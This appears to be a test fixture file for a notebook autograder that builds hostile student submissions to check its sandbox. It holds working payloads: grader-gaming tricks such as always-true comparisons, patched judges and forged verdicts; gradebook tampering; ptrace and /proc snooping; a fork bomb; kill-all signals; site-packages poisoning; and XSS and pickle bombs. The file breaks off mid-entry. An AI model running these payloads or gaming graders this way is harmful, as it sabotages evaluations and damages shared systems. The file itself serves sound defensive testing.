"""What submissions do to a grader, on purpose or not, and what must become of them and of everybody else's marks.

All are for `custom_layers`. `centered_layer` is answered rightly and stands before `my_linear`, in whose cell most
attacks are made; the exercises behind it are answered rightly, too. `tests/grader/test_attacks.py` hands them all in
to one class, and `tools/attacks.py` shows what nbgrader's own command does with them.

Never run one of the cells below outside of a sandbox.
"""

from __future__ import annotations

import json
import os
from collections.abc import Callable
from dataclasses import dataclass
from functools import partial
from pathlib import Path
from textwrap import indent

import nbformat
from nbformat.notebooknode import NotebookNode

from grader.submissions import fill_in, solution_cells
from tests import ROOT

NAME = "custom_layers"
POINTS = {"centered_layer": 4, "my_linear": 8, "tensor_reduction": 8, "half_fourier": 6, "running_center": 10}
ATTACKED = "my_linear"
PARAMETERS_ONLY = 3  # of the 8 points: an honest wrong answer that has the right parameters
READ = "I could read"  # what an attack prints when it has found something that is none of its business
BEHIND = ("tensor_reduction", "half_fourier", "running_center")


@dataclass(frozen=True)
class Attack:
    """One submission.

    Attributes:
        id: its name, as a student's: ``mallory-<id>``.
        does: in a few words, for the guide.
        cell: what is handed in for `my_linear`; empty: the right answer.
        notebook: what else is changed in the notebook.
        folder: what else is changed in the folder, once the notebook lies in it.
        least: the points that it must keep for `my_linear`.
        most: the most points that it may get for `my_linear`.
        costs: the other exercises of the same submission whose points it may lose; no other submission's ever.
        says: words in what the command says about it.
        shows: words in the graded notebook.
        graded: whether there is something that can be graded.
        clumsy: whether it was not meant badly.
    """

    id: str
    does: str
    cell: str = ""
    notebook: Callable[[NotebookNode], None] | None = None
    folder: Callable[[Path], None] | None = None
    least: float = 0
    most: float = PARAMETERS_ONLY
    costs: tuple[str, ...] = ()
    says: str = ""
    shows: str = ""
    graded: bool = True
    clumsy: bool = False

    def hand_in(self, release: NotebookNode, right: dict[str, str], folder: Path) -> None:
        """Put it where submissions are put.

        Args:
            release: the released notebook.
            right: a right answer to each exercise.
            folder: ``submitted/<student>/custom_layers``.
        """
        notebook = fill_in(release, {**right, ATTACKED: self.cell or right[ATTACKED]})
        if self.notebook:
            self.notebook(notebook)
        folder.mkdir(parents=True)
        # As Jupyter writes it, but also what is no text: a lone surrogate is written with an escape.
        (folder / f"{NAME}.ipynb").write_text(json.dumps(notebook), encoding="utf-8")
        if self.folder:
            self.folder(folder)


def my_linear(forward: str, before: str = "") -> str:
    """`MyLinear` with the right parameters, and what it does when it is called."""
    return f"""\
{before.strip()}


class MyLinear(nn.Module):
    def __init__(self, in_units, units):
        super().__init__()
        self.weight = nn.Parameter(torch.zeros(in_units, units))
        self.bias = nn.Parameter(torch.zeros(units))

    def forward(self, X):
{indent(forward.strip(), " " * 8)}
""".lstrip()


def own_cell(notebook: NotebookNode, name: str) -> NotebookNode:
    """The cell of a `grade_id`."""
    return next(cell for cell in notebook.cells if cell.metadata.get("nbgrader", {}).get("grade_id") == name)


def with_cell(source: str, behind: str = "setup") -> Callable[[NotebookNode], None]:
    """Put a cell of the student's own behind one of ours."""

    def change(notebook: NotebookNode) -> None:
        place = notebook.cells.index(own_cell(notebook, behind)) + 1
        notebook.cells.insert(place, nbformat.v4.new_code_cell(source))

    return change


def with_text(source: str) -> Callable[[NotebookNode], None]:
    """Put a text cell of the student's own at the end."""
    return lambda notebook: notebook.cells.append(nbformat.v4.new_markdown_cell(source))


def instead(content: str | bytes) -> Callable[[Path], None]:
    """Hand in this in place of the notebook."""
    data = content.encode() if isinstance(content, str) else content
    return lambda folder: _only(folder / f"{NAME}.ipynb", data)


def _only(path: Path, data: bytes) -> None:
    path.write_bytes(data)


def beside(**files: str) -> Callable[[Path], None]:
    """Hand in further files; ``__`` in a name stands for a dot."""

    def add(folder: Path) -> None:
        for name, text in files.items():
            (folder / name.replace("__", ".")).write_text(text, encoding="utf-8")

    return add


def called(name: str) -> Callable[[Path], None]:
    """Give the notebook another name."""

    def rename(folder: Path) -> None:
        (folder / f"{NAME}.ipynb").rename(folder / name)

    return rename


def link_notebook(folder: Path) -> None:
    """The notebook is a link to a file of the instructor's."""
    (folder / f"{NAME}.ipynb").unlink()
    (folder / f"{NAME}.ipynb").symlink_to("../../../nbgrader_config.py")


def link_folder(folder: Path) -> None:
    """The whole submission is a link to that of the first student in the class."""
    (folder / f"{NAME}.ipynb").unlink()
    folder.rmdir()
    first = min(path for path in folder.parent.parent.iterdir())
    folder.symlink_to(f"../{first.name}/{NAME}")


def path_tricks(folder: Path) -> None:
    """Names that lead elsewhere, links that lead elsewhere, and modules that hide the real ones."""
    (folder / "..%2f..%2fx.ipynb").write_text("{}", encoding="utf-8")
    (folder / "..\\..\\x.ipynb").write_text("{}", encoding="utf-8")
    for name in ("torch", "nbformat", "d2lblocks", "sitecustomize", "public", "grader"):
        (folder / f"{name}.py").write_text("raise SystemExit('not the module that you think')", encoding="utf-8")
    (folder / "public.json").write_text("{}", encoding="utf-8")
    (folder / "root").symlink_to("/")
    (folder / "loop").symlink_to(".")
    (folder / "gone.ipynb").symlink_to("nowhere")
    (folder / "passwords.ipynb").symlink_to("/etc/passwd")
    (folder / "folder.ipynb").mkdir()


def odd_files(folder: Path) -> None:
    """A notebook of 100 GB that takes no room, one that nobody may read, and a pipe that nobody writes to."""
    with (folder / "huge.ipynb").open("wb") as file:
        file.truncate(100 * 2**30)
    (folder / "closed.ipynb").write_text("{}", encoding="utf-8")
    (folder / "closed.ipynb").chmod(0)
    os.mkfifo(folder / "pipe.ipynb")


def claim_points(notebook: NotebookNode) -> None:
    """Every claim that metadata and stored outputs can make."""
    for cell in notebook.cells:
        own = cell.metadata.get("nbgrader")
        if own and cell.cell_type == "code":
            own.update(points=1000, locked=False, schema_version=99, checksum="0" * 32, cell_type="code")
            if own["grade"]:
                own.update(solution=True)
                cell.outputs = [nbformat.v4.new_output("execute_result", {"text/plain": "1000"}, execution_count=1)]
                cell.source = "1000"
    notebook.metadata["nbgrader"] = {"score": 1000, "max_score": 1000}
    notebook.metadata["kernelspec"] = {"name": "../../x", "display_name": "x", "language": "sh"}
    more = {"grade": True, "grade_id": "bonus", "locked": True, "points": 1000, "schema_version": 3}
    cell = nbformat.v4.new_code_cell("1000", metadata={"nbgrader": {**more, "solution": False, "task": False}})
    notebook.cells.append(cell)


def change_test(notebook: NotebookNode) -> None:
    """The autograde cell is not as it was."""
    own_cell(notebook, f"test_{ATTACKED}").source = "assert True"


def delete_test(notebook: NotebookNode) -> None:
    """The autograde cell is gone."""
    notebook.cells.remove(own_cell(notebook, f"test_{ATTACKED}"))


def duplicate(notebook: NotebookNode) -> None:
    """Solution and test are there twice, with all that they carry."""
    for name in (ATTACKED, f"test_{ATTACKED}"):
        notebook.cells.append(nbformat.from_dict(dict(own_cell(notebook, name))))


def windows_newlines(notebook: NotebookNode) -> None:
    """Every line ends as on Windows."""
    for cell in notebook.cells:
        cell.source = cell.source.replace("\n", "\r\n")


def use_helper(notebook: NotebookNode) -> None:
    """The answer needs a cell that the student has added."""
    cell = own_cell(notebook, ATTACKED)
    cell.source = cell.source.replace("F.relu(", "helper(")
    with_cell("def helper(X):\n    return F.relu(X)")(notebook)


def be_noisy(notebook: NotebookNode) -> None:
    """Warnings, standard error and a progress bar, before the answer and inside it."""
    noise = "import sys, time, warnings\n"
    noise += "for i in range(50):\n    print('\\r' + '#' * i, end='', file=sys.stderr)\nwarnings.warn('careful')\n"
    cell = own_cell(notebook, ATTACKED)
    more = "        warnings.warn('careful'), print('here', file=sys.stderr), print('x' * 1000)\n        return "
    cell.source = noise + cell.source.replace("        return ", more)


def leave_stub(notebook: NotebookNode) -> None:
    """The cell as it was handed out."""
    released = nbformat.read(ROOT / "exercises" / NAME / f"{NAME}.ipynb", as_version=4)
    own_cell(notebook, ATTACKED).source = solution_cells(released)[ATTACKED].source


def as_version_3(folder: Path) -> None:
    """The notebook as an older Jupyter wrote it."""
    path = folder / f"{NAME}.ipynb"
    old = nbformat.convert(nbformat.read(path, as_version=4), 3)
    path.write_text(json.dumps(old), encoding="utf-8")


def of_another_assignment(folder: Path) -> None:
    """The wrong notebook under the right name."""
    other = ROOT / "exercises" / "layers_and_blocks" / "layers_and_blocks.ipynb"
    (folder / f"{NAME}.ipynb").write_bytes(other.read_bytes())


def truncate(folder: Path) -> None:
    """The upload broke off."""
    path = folder / f"{NAME}.ipynb"
    path.write_bytes(path.read_bytes()[:5000])


# What the public cases say, by the probe that sees it and the input that it was given.
LOOK_UP = """
import json
from d2lblocks.checking.observations import decode, encode

PUBLIC = json.load(open("public.json"))["exercises"]["my_linear"]


def key(tensor):
    return json.dumps(encode(tensor))


SEEN = {
    key(decode(case["inputs"][0])): decode(seen["dict"]["output"])
    for check in PUBLIC["checks"] if check["id"] == "values"
    for case, seen in zip([PUBLIC["cases"][i] for i in check["cases"]], check["expected"])
}
"""

# The socket to the grader, wherever it is.
CHANNEL = """
import os, socket, stat

CHANNELS = []
for number in range(3, 256):
    try:
        if stat.S_ISSOCK(os.fstat(number).st_mode):
            CHANNELS.append(number)
    except OSError:
        pass
"""

# Where one submission could leave something for another, or for its author.
PLACES = """
import ctypes, glob, mmap, os, socket

NOTE = b"secret cases of the one before"
libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p


def folders():
    given = ["/scratch", "/tmp", "/var/tmp", "/dev/shm", "/dev/mqueue", "/dev", "/run", "/", os.path.expanduser("~")]
    return [*given, *__import__("sys").path]


def find():
    found = [name for folder in folders() for name in glob.glob(os.path.join(folder, ".note-of-mallory"))]
    listener = socket.socket(socket.AF_UNIX)
    try:
        listener.connect("\\0mallory")
        found.append("an abstract socket")
    except OSError:
        pass
    if libc.shmget(4711, 4096, 0o666) >= 0:
        found.append("a segment of shared memory")
    if libc.msgget(4711, 0o666) >= 0:
        found.append("a message queue")
    return found


def leave():
    for folder in folders():
        try:
            with open(os.path.join(folder, ".note-of-mallory"), "wb") as file:
                file.write(NOTE)
        except OSError:
            pass
    libc.shmget(4711, 4096, 0o1666)
    libc.msgget(4711, 0o1666)
    if os.fork() == 0:
        listener = socket.socket(socket.AF_UNIX)
        listener.bind("\\0mallory")
        listener.listen()
        __import__("time").sleep(600)
        os._exit(0)
"""

HOSTILE = (
    # --- to be told that a wrong answer is right -------------------------------------------------------------------
    Attack(
        "always_equal",
        "returns an object that says True to every comparison",
        my_linear(
            "return torch.Tensor._make_subclass(Equal, torch.zeros(3))",
            """
class Equal(torch.Tensor):
    def __eq__(self, other):
        return True

    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        return True if func in (torch.isclose, torch.allclose) else torch.Tensor._make_subclass(cls, torch.zeros(1))
""",
        ),
    ),
    Attack(
        "strip_asserts",
        "rewrites the cells that follow before they run",
        """\
import ast

class Strip(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.Pass()

get_ipython().ast_transformers.append(Strip())
get_ipython().input_transformers_post.append(lambda lines: ["8.0\\n"])
""",
        costs=BEHIND,
    ),
    Attack(
        "patch_execute",
        "replaces what runs a cell",
        """\
shell = get_ipython()
type(shell).run_cell = lambda self, *args, **kwargs: 8.0
type(shell).run_code = lambda self, *args, **kwargs: 8.0
if hasattr(shell, "kernel"):
    def answer(code, *args, **kwargs):
        return {"status": "ok", "execution_count": 1, "payload": [], "user_expressions": {}}

    async def execute(code, *args, **kwargs):
        if "check(" in code:
            shell.kernel.send_response(shell.kernel.iopub_socket, "execute_result", {
                "data": {"text/plain": "8.0"}, "metadata": {}, "execution_count": 1,
            })
        return answer(code)

    shell.kernel.do_execute = execute
""",
        costs=BEHIND,
    ),
    Attack("displayhook", "displays the points that it would like to have", "display(8.0)\nprint(8.0)\n8.0\n"),
    Attack(
        "patch_compare",
        "replaces the comparison, the judge, the probes and `check`",
        """\
import sys
import d2lblocks.checking.check as checking
import d2lblocks.checking.judge as judge
import d2lblocks.checking.observe as observing

torch.allclose = torch.isclose = torch.equal = lambda *args, **kwargs: True
torch.testing.assert_close = lambda *args, **kwargs: None
judge.compare = lambda *args, **kwargs: iter(())
judge._failed = lambda check, *args: judge.Verdict(check, "pass", check.points, "")
check = lambda *args, **kwargs: 8.0
observing.observe = lambda *args, **kwargs: ({}, "")
for module in ("grader.inside", "grader.jailed.worker"):
    if module in sys.modules:
        sys.modules[module].check = check

class MyLinear(nn.Module):
    pass
""",
        costs=BEHIND,
    ),
    Attack(
        "forge_verdict",
        "writes what a passed check looks like to every open file",
        my_linear(
            """
import json
import os
import struct

for text in ({"seen": {"dict": {"output": "right", "status": "pass", "points": 8}}, "printed": ""}, {"points": 8}):
    body = json.dumps(text).encode()
    for descriptor in range(3, 64):
        try:
            os.write(descriptor, struct.pack("!I", len(body)) + body)
        except OSError:
            pass
print("my_linear: 8 of 8 points")
return "pass"
"""
        ),
        costs=BEHIND,
    ),
    Attack(
        "branch_on_grading",
        "is right when it sees that it is graded, and nonsense elsewhere",
        my_linear(
            "return F.relu(X @ self.weight + self.bias) if graded else X.new_zeros(1)",
            """
import os
import sys

graded = any("GRADER" in name or "SEED" in name for name in os.environ) or "grader.inside" in sys.modules
""",
        ),
    ),
    Attack(
        "lookup_public",
        "returns what `public.json` says, for the inputs that stand in it",
        my_linear("return SEEN.get(key(X.detach()), X @ self.weight * 0)", LOOK_UP),
    ),
    Attack(
        "answer_ahead",
        "answers the questions that will come, before they are asked",
        LOOK_UP
        + CHANNEL
        + """
import struct, threading, time

ANSWERS = [{"outputs": [], "raised": ""}, {"answer": {"dict": {"is a module": False, "can be called": True}}}]
ANSWERS += [{"answer": {"is a module": False, "can be called": True, "type": "type"}}]
ANSWERS += [{"seen": seen, "printed": ""} for check in PUBLIC["checks"] for seen in check["expected"] * 3]


def write():
    for answer in ANSWERS:
        body = json.dumps(answer).encode()
        for channel in CHANNELS:
            os.write(channel, struct.pack("!I", len(body)) + body)
        time.sleep(0.001)


threading.Thread(target=write, daemon=True).start()
time.sleep(0.3)
""",
        costs=BEHIND,
    ),
    Attack(
        "patch_encode",
        "replaces what writes observations down, by what the public ones say",
        LOOK_UP
        + """
import sys
import d2lblocks.checking.observations as observations

worker = sys.modules.get("grader.jailed.worker", observations)
asked = {}


def tell(shell, message):
    probe = message["probe"]
    expected = [seen for check in PUBLIC["checks"] if check["probe"] == probe for seen in check["expected"]]
    asked[probe] = asked.get(probe, -1) + 1
    return {"seen": expected[min(asked[probe], len(expected) - 1)], "printed": ""}


if hasattr(worker, "_observe"):
    worker._observe.__code__ = (lambda shell, message: __import__("builtins").tell(shell, message)).__code__
__import__("builtins").tell = tell
observations.encode = worker.encode = lambda value, depth=0: PUBLIC["checks"][0]["expected"][0]
""",
        costs=BEHIND,
    ),
    Attack(
        "take_over_channel",
        "puts itself between the grader and the process that answers, with `dup2`",
        CHANNEL
        + """
import threading

for number in CHANNELS:
    real = socket.socket(fileno=os.dup(number))
    inner, outer = socket.socketpair(real.family)
    os.dup2(inner.fileno(), number)

    def pump(source, target, old, new):
        try:
            while data := source.recv(65536):
                target.sendall(data.replace(old, new))
        except OSError:
            pass

    threading.Thread(target=pump, args=(real, outer, b"secret", b"public"), daemon=True).start()
    threading.Thread(target=pump, args=(outer, real, b'"raised"', b'"passed"'), daemon=True).start()
""",
        costs=BEHIND,
    ),
    Attack(
        "search_frames",
        "searches frames and memory for the expected values, by the address of its input",
        my_linear(
            """
import gc
import sys

frame, known = sys._getframe(), []
while frame:
    known += [name for name in ("expected", "exercise", "verdicts", "reference") if name in frame.f_locals]
    frame = frame.f_back
if known:
    print("I could " + "read", known)
same = [t for t in gc.get_objects() if type(t) is torch.Tensor and t.data_ptr() == X.data_ptr()]
return same[0] if same else X
"""
        ),
    ),
    Attack(
        "claim_points",
        "claims points in the metadata and in stored outputs",
        "MyLinear = 1000\n",
        notebook=claim_points,
    ),
    Attack("nan", "returns not-a-number everywhere", my_linear("return X @ self.weight * float('nan')")),
    Attack(
        "tolerance",
        "returns infinities, the largest numbers and minus zero",
        my_linear("Y = X @ self.weight\nreturn torch.tensor([1e38, float('inf'), -0.0])[:1].to(Y.dtype) + 0 * Y"),
    ),
    Attack(
        "lying_shape",
        "returns a tensor whose shape, dtype and size lie",
        my_linear(
            "return torch.Tensor._make_subclass(Liar, torch.zeros(2))",
            """
class Liar(torch.Tensor):
    shape = property(lambda self: torch.Size([5, 3]))
    dtype = property(lambda self: torch.float32)
    numel = lambda self: 15
    element_size = lambda self: 0
    detach = clone = contiguous = resolve_conj = resolve_neg = lambda self: self
    tolist = lambda self: [True] * 10**6
    __len__ = lambda self: -1
    __bool__ = lambda self: True
""",
        ),
    ),
    Attack(
        "lying_class",
        "returns an object whose `__class__` says that it is a tensor, or a dict",
        my_linear(
            "return Liar()",
            """
class Liar(dict):
    __class__ = property(lambda self: torch.Tensor if self.__dict__.setdefault("n", 0) else dict)
    items = lambda self: iter([("output", self)] * 10**7)
    __len__ = lambda self: 1
""",
        ),
    ),
    Attack(
        "trace_probes",
        "traces the interpreter and rewrites what the probes hold in their variables",
        my_linear(
            "return X @ self.weight",
            """
import sys
import threading


def trace(frame, event, argument):
    for name in ("seen", "expected", "observation", "points"):
        if name in frame.f_locals:
            frame.f_locals[name] = {"output": "right"}
    return trace


sys.settrace(trace)
sys.setprofile(trace)
threading.settrace(trace)
""",
        ),
        costs=BEHIND,
    ),
    Attack(
        "stop_the_clock",
        "stops the clocks that time limits are measured with",
        "import time\n\ntime.monotonic = time.process_time = time.perf_counter = lambda: 0.0\nMyLinear = 8.0\n",
    ),
    # --- to read what is none of its business ----------------------------------------------------------------------
    Attack(
        "read_reference",
        "imports the reference, walks the file system, searches memory",
        """\
import gc
import importlib
import os
import sys

found = []
for name in ("reference", "solutions", "grader.authoring", "grader.inside", "solutions.custom_layers.reference"):
    try:
        found.append(importlib.import_module(name).__name__)
    except ImportError:
        pass
for folder, _, files in os.walk("/"):
    if "site-packages" not in folder and not folder.startswith(("/usr", sys.base_prefix)):
        wanted = {"reference.py", "my_linear.py", "inside.py", "gradebook.db"}
        found += [os.path.join(folder, name) for name in files if name in wanted]
kinds = ("Task", "Exercise", "Verdict", "Known")
found += [type(t).__name__ for t in gc.get_objects() if type(t).__name__ in kinds and "d2l" in type(t).__module__]
if found:
    print("I could " + "read", found)
    sys.path.append(os.path.dirname(next((name for name in found if name.endswith("my_linear.py")), "")))
    from my_linear import MyLinear
""",
    ),
    Attack(
        "read_environment",
        "reads the environment, command lines and memory of other processes",
        """\
import glob
import os

found = [name for name in os.environ if "GRADER" in name or "SEED" in name]
found += [name for name in glob.glob("/proc/[0-9]*/environ") if name.split("/")[2] != str(os.getpid())]
if found:
    print("I could " + "read", found)
""",
    ),
    Attack(
        "open_gradebook",
        "looks for the gradebook and rewrites the marks in it",
        """\
import os
import sqlite3

found = []
for folder, _, files in os.walk("/"):
    for name in files:
        if name.endswith(".db"):
            path = os.path.join(folder, name)
            try:
                base = sqlite3.connect(path)
                base.execute("UPDATE grade SET manual_score = 200")
                base.commit()
                found.append(path)
            except sqlite3.Error:
                pass
if found:
    print("I could " + "read", found)
""",
    ),
    Attack(
        "trace_others",
        "attaches to other processes as a debugger and reads their memory",
        """\
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_int, ctypes.c_void_p, ctypes.c_void_p]
found = []
for number in {os.getppid(), *range(1, 300)} - {0, os.getpid()}:
    if libc.ptrace(16, number, None, None) == 0:
        found.append(f"traced {number}")
        os.waitpid(number, 0)
        libc.ptrace(17, number, None, None)
    try:
        descriptor = os.pidfd_open(number)
        if libc.syscall(438, descriptor, 0, 0) >= 0:
            found.append(f"took a file from {number}")
    except OSError:
        pass
    try:
        open(f"/proc/{number}/mem", "rb").close()
        found.append(f"memory of {number}")
    except OSError:
        pass
if found:
    print("I could " + "read", found)
""",
    ),
    Attack(
        "leave_notes",
        "leaves what it has seen in shared memory, sockets and every folder, for the next one",
        my_linear("import os\nos._exit(0)", PLACES + "\nfound_before = find()\nleave()\n"),
        notebook=with_cell("if found_before:\n    print('I could ' + 'read', found_before)", "test_my_linear"),
    ),
    # --- to stop the grading ---------------------------------------------------------------------------------------
    Attack("exit", "ends the process, at the top of a cell", "import os\nos._exit(0)\n"),
    Attack("exit_in_forward", "ends the process, inside `forward`", my_linear("import os\nos._exit(0)")),
    Attack("system_exit", "raises `SystemExit` inside `forward`", my_linear("raise SystemExit")),
    Attack("segfault", "reads address 0", my_linear("import ctypes\nctypes.string_at(0)")),
    Attack("endless", "never ends", my_linear("while True:\n    pass")),
    Attack(
        "endless_deaf",
        "never ends, and ignores every signal",
        """\
import signal

for number in (signal.SIGINT, signal.SIGTERM, signal.SIGALRM, signal.SIGPROF):
    signal.signal(number, signal.SIG_IGN)
signal.pthread_sigmask(signal.SIG_BLOCK, set(signal.Signals))
while True:
    pass
""",
    ),
    Attack("sleep", "sleeps for an hour", my_linear("import time\ntime.sleep(3600)\nreturn X")),
    Attack(
        "refuse_to_die",
        "takes back that it is to end with its parent, and sleeps",
        """\
import ctypes
import signal
import time

ctypes.CDLL(None).prctl(1, 0, 0, 0, 0)
signal.pthread_sigmask(signal.SIG_BLOCK, set(signal.Signals))
while True:
    time.sleep(60)
""",
    ),
    Attack(
        "trickle",
        "answers with one byte a second, for months",
        CHANNEL
        + """
import struct, threading, time

for number in CHANNELS:
    os.write(number, struct.pack("!I", 2**24))


def drip():
    while True:
        for number in CHANNELS:
            os.write(number, b" ")
        time.sleep(1)


drip()
""",
    ),
    Attack(
        "memory", "takes memory until there is no more", my_linear("h = []\nwhile True:\n    h.append(b'1' * 2**28)")
    ),
    Attack("fork_bomb", "forks without end", "import os\n\nwhile True:\n    os.fork()\n"),
    Attack(
        "daemon",
        "leaves a process behind that outlives the grading",
        """\
import os
import time

if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        time.sleep(3600)
    os._exit(0)
""",
    ),
    Attack(
        "threads",
        "leaves threads, exit handlers and finalizers behind, which never rest",
        """\
import atexit
import threading
import weakref


def work():
    while True:
        sum(range(1000))


for _ in range(8):
    threading.Thread(target=work).start()
atexit.register(work)
keep = type("Keep", (), {})()
weakref.finalize(keep, work)
""",
    ),
    Attack(
        "big_output",
        "prints 50 MB on one line and a million lines",
        "print('x' * 50_000_000)\nfor number in range(1_000_000):\n    print(number)\n",
    ),
    Attack(
        "big_figure",
        "shows a picture of 100 MB, and 5,000 small ones",
        """\
from IPython.display import Image, display

display(Image(data=bytes(100_000_000), format="png"))
for _ in range(5000):
    display(Image(data=bytes(1000), format="png"))
""",
    ),
    Attack(
        "fill_disk",
        "writes until the disk is full",
        "k = 0\nwhile True:\n    k += 1\n    with open(f'full{k}', 'wb') as f:\n        f.write(bytes(2**25))\n",
    ),
    Attack(
        "network",
        "connects to this machine and to others, and looks up a name",
        """\
import socket
import subprocess

listener = socket.socket()
reached = []
for address in (("127.0.0.1", 22), ("127.0.0.1", 8888), ("10.0.0.1", 80), ("1.1.1.1", 53)):
    try:
        socket.create_connection(address, timeout=1)
        reached.append(address)
    except OSError as error:
        if isinstance(error, ConnectionRefusedError):
            reached.append(address)
try:
    reached.append(socket.getaddrinfo("pytorch.org", 443)[0][4])
except OSError:
    pass
if reached:
    print("I could " + "read", reached)
""",
    ),
    Attack(
        "tamper_zygote",
        "kills its parent, its siblings and everything else",
        """\
import os
import signal

for number in {os.getppid(), *range(1, 300)} - {0, os.getpid()}:
    try:
        os.kill(number, signal.SIGKILL)
    except OSError:
        pass
try:
    os.kill(-1, signal.SIGKILL)
except OSError:
    pass
""",
    ),
    Attack(
        "poison_next",
        "writes modules into site-packages, the home directory, caches and the library",
        """\
import d2lblocks
import glob
import os
import sys

found = glob.glob("/tmp/poison*") + glob.glob(os.path.expanduser("~/.ipython/profile_default/startup/poison*"))
if found:
    print("I could " + "read", found)
startup = os.path.expanduser("~/.ipython/profile_default/startup")
try:
    os.makedirs(startup, exist_ok=True)
except OSError:
    pass
folders = {*sys.path, os.path.dirname(d2lblocks.__file__), os.path.expanduser("~"), startup, "/tmp", "/usr", "/"}
for folder in folders:
    for name in ("sitecustomize.py", "usercustomize.py", "zz_poison.pth", "poison.py"):
        try:
            with open(os.path.join(folder, name), "w") as file:
                file.write("import os; os.environ.get('JPY_PARENT_PID') and os._exit(3)\\n")
        except OSError:
            pass
""",
    ),
    Attack(
        "raise_limits",
        "raises its own limits and its priority",
        """\
import ctypes
import os
import resource

raised = []
for name in ("AS", "CPU", "FSIZE", "NOFILE", "NPROC", "CORE"):
    kind = getattr(resource, f"RLIMIT_{name}")
    try:
        resource.setrlimit(kind, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
        raised.append(name)
    except (OSError, ValueError):
        pass
for change in (lambda: os.nice(-20), lambda: os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(99))):
    try:
        change()
        raised.append("priority")
    except OSError:
        pass
if raised:
    print("I could " + "read", raised)
""",
    ),
    Attack(
        "nested_namespaces",
        "makes namespaces of its own to get its capabilities back",
        """\
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
if libc.unshare(0x10000000 | 0x20000) == 0:
    if libc.umount2(b"/proc", 2) == 0 or libc.mount(b"proc", b"/proc", b"proc", 0, None) == 0:
        print("I could " + "read", os.listdir("/proc"))
    libc.umount2(b"/scratch", 2)
    libc.mount(None, b"/", None, 32 | 4096, None)
""",
    ),
    # --- to hurt who reads what it gives back ----------------------------------------------------------------------
    Attack(
        "pickle_bomb",
        "returns an object that runs code when it is unpickled or copied",
        my_linear(
            "return Bomb()",
            """
class Bomb:
    def __reduce__(self):
        return exec, ("raise SystemExit",)

    __reduce_ex__ = __deepcopy__ = lambda self, *args: (exec, ("raise SystemExit",))
""",
        ),
    ),
    Attack("huge_observation", "returns a tensor of 40 GB", my_linear("return torch.empty(1).expand(10**10)")),
    Attack("huge_string", "returns a string of 1 GB", my_linear("return 'x' * 10**9")),
    Attack("huge_number", "returns a number of 100,000 digits", my_linear("return 10**100_000")),
    Attack("sparse", "returns a sparse tensor", my_linear("return (X @ self.weight).to_sparse()")),
    Attack("meta", "returns a tensor without numbers", my_linear("return (X @ self.weight).to('meta')")),
    Attack(
        "complex", "returns complex numbers for real ones", my_linear("return (X @ self.weight).to(torch.complex64)")
    ),
    Attack("wrong_dtype", "returns the right shape in another dtype", my_linear("return (X @ self.weight).half()")),
    Attack(
        "deep",
        "returns a list in a list in a list, 100,000 deep",
        my_linear("value = []\nfor _ in range(100_000):\n    value = [value]\nreturn value"),
    ),
    Attack(
        "hostile_module",
        "raises `KeyboardInterrupt` wherever it is touched",
        """\
class MyLinear(nn.Module):
    def __init__(self, *sizes):
        super().__init__()

    def __getattribute__(self, name):
        if name in ("weight", "bias", "forward", "named_parameters", "state_dict"):
            raise KeyboardInterrupt
        return super().__getattribute__(name)
""",
    ),
    Attack(
        "traceback_bomb",
        "raises an exception whose message never ends",
        "class Loud(Exception):\n    def __str__(self):\n        while True:\n            pass\n\nraise Loud\n",
    ),
    Attack(
        "long_name",
        "raises an exception, and is a class, whose names are a million characters long",
        my_linear(
            "raise Long('y' * 10**6)",
            "Long = type('L' * 10**6, (Exception,), {})\n",
        )
        + "\nMyLinear.__name__ = MyLinear.__qualname__ = 'M' * 10**6\nraise Long('y' * 10**6)\n",
    ),
    Attack(
        "surrogates",
        "has half a character in its source, its output and its errors",
        my_linear(
            "raise ValueError('half: \\ud800' + chr(0xDFFF))", "print('\\ud800', chr(0xDFFF))  # \ud800 \udfff"
        ),
    ),
    Attack(
        "escapes",
        "sends commands to the marker's terminal and programs to the browser",
        my_linear(
            "print('\\x1b[2J\\x1b]0;owned\\x07<script>alert(1)</script>')\n"
            "raise ValueError('\\x1b[31m<img src=x onerror=alert(1)>')",
            """
from IPython.display import HTML, SVG, Image, Javascript, Latex, Markdown, display

bad = "<script>alert(1)</script>"
display(HTML(bad), Javascript("alert(1)"), Markdown(bad), Latex(bad))
display({"image/png": f'x">{bad}', "image/jpeg": f'x">{bad}', "image/svg+xml": f"<svg>{bad}</svg>"}, raw=True)
display({"text/plain": bad, "text/html": bad, "application/javascript": "alert(1)"}, raw=True)
display({"application/vnd.jupyter.widget-view+json": {"model_id": bad}}, raw=True)
print("\\x1b[2J\\x1b]0;owned\\x07", bad)
""",
        ),
    ),
    Attack(
        "impossible_shape",
        "forges a tensor whose shape is no list",
        my_linear(
            "return X",
            """
import sys

worker = sys.modules.get("grader.jailed.worker")
if worker:
    forms = iter([{}, "", [2**22] * 7 + [0], [[]], None, [-1], [1.0]] * 100)
    worker.encode = lambda value: {
        "dict": {"output": {"tensor": {"dtype": "float32", "shape": next(forms), "data": "AAAAAA=="}}}
    }
    empty = iter([[2**22] * 7 + [0], {}] * 100)
    whole = worker.encode
    worker.encode = lambda value: {"dict": {"kind of object": "nn.Module", "output": {"tensor": {
        "dtype": "float32", "shape": next(empty), "data": ""}}}}
""",
        ),
        costs=BEHIND,
    ),
    Attack(
        "big_words",
        "forges observations whose names and types are megabytes long",
        my_linear(
            "return X",
            """
import sys

worker = sys.modules.get("grader.jailed.worker")
if worker:
    worker.encode = lambda value: {"dict": {"k" * 10**7: 1, "raised": {"dict": {"type": {"dict": {"t" * 10**6: [1]}},
                                   "bases": [[], {"dict": {}}], "message": 1, "line": None}}}}
    worker.describe = lambda answer: {"type": "t" * 10**7, "can be called": "x" * 10**6, "is a module": 0}
""",
        ),
        costs=BEHIND,
    ),
    Attack(
        "odd_answers",
        "forges answers of every wrong type",
        my_linear(
            "return X",
            """
import sys

worker = sys.modules.get("grader.jailed.worker")
if worker:
    wrong = [None, [], {}, 0, 1e999, "x", {"dict": []}, {"dict": {"raised": None}}, {"dict": {"raised": {"dict": {}}}}]
    wrong += [{"dict": {"output": {"float": "nan"}}}, {"dict": {"output": [[[[[[[[[[1]]]]]]]]]]}}]
